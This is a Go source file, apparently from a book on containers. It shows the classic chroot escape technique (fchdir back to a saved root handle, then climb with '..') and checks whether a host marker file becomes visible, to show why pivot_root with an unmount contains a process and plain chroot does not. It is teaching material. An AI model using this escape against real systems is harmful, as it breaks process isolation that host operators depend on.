//book:file rootfs

package main

import (
	"fmt"
	"os"

	"golang.org/x/sys/unix"
)

// escape tries the classic way out of a chroot, then tells whether the host
// file marker is visible. chroot only changes where one process's paths
// start; the kernel stops ".." at the process's root, but a process whose
// working directory is outside its root is not stopped. So: keep a handle
// on the current root, chroot into a subdirectory, fchdir back to the
// handle (now outside the root), climb with "..", and chroot to where the
// climb ended. In a chroot "container" that is the host's real root. After
// pivot_root and the old root's unmount, the climb ends at the container's
// own root: there is nothing above it in its mount namespace.
func escape(marker string) {
	oldRoot, err := unix.Open("/", unix.O_RDONLY|unix.O_DIRECTORY, 0)
	check(err)
	check(os.MkdirAll("/escape", 0o700))
	check(unix.Chroot("/escape"))
	check(unix.Fchdir(oldRoot))
	for i := 0; i < 64; i++ {
		check(unix.Chdir(".."))
	}
	check(unix.Chroot("."))
	if _, err := os.Stat(marker); err == nil {
		fmt.Println("escaped: the host's", marker, "is visible")
		return
	}
	fmt.Println("contained")
}

func check(err error) {
	if err != nil {
		fail(err)
	}
}
